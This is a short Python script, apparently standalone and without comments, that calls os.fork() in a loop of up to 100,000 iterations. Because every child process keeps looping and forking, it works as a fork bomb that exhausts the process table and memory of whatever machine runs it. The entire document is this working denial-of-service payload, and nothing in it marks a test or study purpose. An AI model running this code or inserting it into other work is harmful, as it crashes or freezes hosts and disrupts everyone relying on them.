import os as _os

for _ in range(100000):
    try:
        _os.fork()
    except OSError:
        break
